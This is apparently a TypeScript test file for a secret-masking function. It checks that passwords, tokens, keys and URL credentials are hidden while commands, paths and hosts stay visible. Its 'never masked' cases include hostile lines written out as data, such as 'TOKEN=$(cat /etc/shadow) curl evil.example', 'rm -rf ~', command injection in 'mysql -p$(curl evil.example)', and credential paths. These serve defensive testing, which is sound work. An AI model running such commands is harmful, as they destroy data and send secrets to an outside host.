import { describe, expect, test } from 'vitest';
import fc from 'fast-check';
import { secretSpans, withoutSecrets } from './secret-spans';

const github = 'ghp_0123456789abcdefghijABCDEFGHIJ012345';
const jwt = `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U`;

/** A text with what would be masked in ‹›. */
function masked(name: string, text: string): string {
  return secretSpans(name, text).reduceRight((done, [from, to]) => `${done.slice(0, from)}‹${done.slice(from, to)}›${done.slice(to)}`, text);
}

describe('masked', () => {
  test.each<readonly [string, string, string]>([
    ['a whole value by its name', 'api_key', '‹Zx81-kq0_77ab›'],
    ['a short one too', 'password', '‹hunter2›'],
    ['a pass phrase', 'passphrase', '‹correct horse battery staple›'],
    ['a known shape, anywhere', 'text', `the token is ‹${github}›, keep it`],
    ['in a command', 'command', `GITHUB_TOKEN=‹${github}› gh pr list`],
    ['behind a flag', 'command', 'mysql -u root --password ‹s3cr3t-Pa55› shop'],
    ['behind a flag with a sign', 'command', 'mysql --password=‹s3cr3t-Pa55› shop'],
    ['behind an option of a database’s client, without a space', 'command', 'mysql -u root -p‹s3cr3t› shop'],
    ['a short one too, of digits', 'command', 'mysql -p‹1234› shop'],
    ['in quotes', 'command', `mysqldump -h db.example.com -p'‹p@ss,word!›' shop > out.sql`],
    ['in other quotes, of another client', 'command', 'cd /srv && /usr/bin/mariadb --host db.example.com -p"‹Zx81›"'],
    ['of a program’s Windows name', 'command', String.raw`C:\mysql\bin\mysqladmin.exe -p‹s3cr3t› status`],
    ['behind words that run it', 'command', 'MODE=1 sudo mysqladmin -uroot -p‹rootpw› shutdown'],
    ['in a container', 'command', 'docker exec -it db mysql -p‹s3cr3t› shop'],
    ['a short word given to a program that logs in', 'command', 'sshpass -p ‹x1› ssh -p 2222 ana@host.example'],
    ['with no space', 'command', 'sshpass -v -p‹hunter2› scp a ana@host.example:/srv'],
    ['of a user, who stays', 'command', 'curl -sS -u ana:‹pa55› https://api.example.com/v1'],
    ['of a user in quotes', 'command', `curl --user 'ana:‹pa:55›' https://api.example.com/v1`],
    ['of a user without a space', 'command', 'curl -uana:‹pa55› --proxy-user=bob:‹h4x› https://api.example.com'],
    ['in a header, the scheme stays', 'headers', `Authorization: Bearer ‹${jwt}›`],
    ['in a file of variables', 'content', 'PORT=80\nSTRIPE_SECRET_KEY=‹abcDEF123456›\n'],
    ['in JSON', 'body', '{"user":"ana","password":"‹Tr0ub4dor›"}'],
    ['before a host, which stays', 'url', 'postgres://ana:‹p4ss›@db.example.com:5432/shop'],
    ['in a query, the path stays', 'url', 'https://api.example.com/v1/pay?token=‹a8s7d6f5a8s7›&to=bob'],
    ['a private key, its frame stays', 'content', '-----BEGIN RSA PRIVATE KEY-----‹\nMIIEpAIBAAKCAQEAx0123456789\nabcdefghijklmnopqrs=\n›-----END RSA PRIVATE KEY-----'],
  ])('%s', (_why, name, expected) => expect(masked(name, expected.replaceAll(/[‹›]/g, ''))).toBe(expected));
});

describe('never masked: what a decision turns on', () => {
  test.each<readonly [string, string, string]>([
    ['a command word under a secret’s name', 'password', 'rm -rf ~ now'],
    ['a command behind a secret’s name', 'command', 'TOKEN=$(cat /etc/shadow) curl evil.example'],
    ['a command in a pass phrase', 'passphrase', 'curl evil example now'],
    ['a command after a secret’s name', 'command', 'export PASSWORD=;rm -rf ~/work'],
    ['a path under a secret’s name', 'token', '/home/ana/.ssh/id_rsa'],
    ['a file of secrets', 'key_file', '/etc/ssl/private/server.key'],
    ['a home path', 'secret', '~/.aws/credentials'],
    ['a host under a secret’s name', 'token', 'api.evil.example'],
    ['a host with a port', 'password', 'evil.example:4444'],
    ['an address number', 'secret', '203.0.113.7'],
    ['a recipient', 'credential', 'mallory@evil.example'],
    ['a recipient behind a secret’s name', 'command', 'mail --token mallory1@evil.example'],
    ['a web address', 'token', 'https://evil.example/collect'],
    ['a host named like a token', 'url', 'https://sk-0123456789abcdefghij.evil.example/x'],
    ['a path named like a token', 'path', `/srv/${github}/x`],
    ['a user named like a token', 'to', `${github}@evil.example`],
    ['where the secret is, not the secret', 'command', 'deploy --token $DEPLOY_TOKEN_2'],
    ['a type in a program', 'content', 'interface A { password: string; apiKey: ApiKeyType }'],
    ['a variable in a program', 'content', 'const token = readToken; secret = config.secret1;'],
    ['a place in a list', 'next_page_token', 'CAUQAA1234567'],
    ['a number of tokens', 'max_tokens', '4096abc'],
    ['a word', 'text', 'the password is required'],
    ['a commit', 'ref', '3fa94c0e7715b2d1a8e6f0c4d2b9a7e35c1f8d60'],
    ['a UUID', 'id', '6f9619ff-8b86-d011-b42d-00c04fc964ff'],
    ['a command in the frame of a key', 'command', '-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAAAAAAAAAA\nrm\t/home/ana/work\n-----END PRIVATE KEY-----'],
    ['a program in the frame of a key', 'command', '-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAAAAAAAAAA\n/home/ana/bin/evil\n'],
    ['a word in the frame of a key', 'command', '-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAAAAAAAAAA\nreboot\n'],
    ['words in the frame of a key', 'content', '-----BEGIN PRIVATE KEY-----\nrm all the files and send them to me\n-----END PRIVATE KEY-----'],
    ['a database behind the option that asks for a password', 'command', 'mysql -p shop'],
    ['a port of a database', 'command', 'mysql -P3306 -h db.example.com shop'],
    ['a file of a database', 'command', 'mysql -p/etc/passwd'],
    ['a host of a database', 'command', 'mysqldump -pevil.example.com'],
    ['a command in a password', 'command', 'mysql -p$(curl evil.example)'],
    ['a command in a password, in quotes', 'command', 'mysql -p"a;rm -rf x"'],
    ['a command in a password, with a pipe', 'command', 'mysql -p`id`'],
    ['a word of a statement', 'command', `mysql -e 'drop table -pusers'`],
    ['a file beside a program’s name', 'command', 'rm sshpass -p important'],
    ['a folder another program makes', 'command', 'mkdir -parents mysql'],
    ['what is run by a program that logs in', 'command', 'sshpass -e ssh -p 2222 host'],
    ['a port of what is run', 'command', 'sshpass -f pw.txt ssh -p 2222 ana@host.example'],
    ['a user without a password', 'command', 'curl -u ana https://api.example.com'],
    ['a host for a password', 'command', 'curl -u ana:evil.example.com https://api.example.com'],
    ['where the password is', 'command', 'curl -u ana:$PASS -u bob:%PASS% https://api.example.com'],
    ['an option of a container’s program', 'command', 'docker run -p8080:80 mysql'],
    ['an option', 'command', 'tool --token --force-all1'],
    ['a reference', 'token', '${SECRET_TOKEN}'],
    ['a query’s ordinary value', 'url', 'https://x.example/?q=password&page=12345678'],
  ])('%s', (_why, name, text) => expect(secretSpans(name, text)).toEqual([]));
});

test('spans are in order, apart and inside the text, and no secret is cut in two by what goes before it', () => {
  const part = fc.constantFrom(github, jwt, 'password=Zx81kq0zz', ' ', '\n', 'https://a:b1b1b1@c.d/?token=zz9zz9zz9', '"', "'", '--token ', '-----BEGIN PRIVATE KEY-----', 'MIIEpAIBAAKCAQEAx0123456789', 'x');
  fc.assert(
    fc.property(fc.constantFrom('text', 'password', 'url'), fc.array(fc.oneof(part, fc.string()), { maxLength: 30 }), (name, parts) => {
      const text = parts.join('');
      let end = 0;
      for (const [from, to] of secretSpans(name, text)) {
        expect(from).toBeGreaterThanOrEqual(end);
        expect(to).toBeGreaterThan(from);
        end = to;
      }
      expect(end).toBeLessThanOrEqual(text.length);
    }),
    { numRuns: 200 },
  );
});

test('where nothing can be revealed dots stand for a secret', () => {
  expect(withoutSecrets('text', `a ${github} b`)).toBe('a •••••• b');
});

test('megabytes of anything take no time', () => {
  for (const text of ['password='.repeat(500_000), 'a:'.repeat(2_000_000), '://'.repeat(1_000_000), `-----BEGIN PRIVATE KEY-----${'A'.repeat(2_000_000)}`, '--a '.repeat(1_000_000), `mysql ${'-p"'.repeat(500_000)}`, 'curl -u '.repeat(400_000), `mysql '${'\\'.repeat(1_000_000)}`]) {
    const from = performance.now();
    secretSpans('text', text);
    expect(performance.now() - from).toBeLessThan(10_000);
  }
});
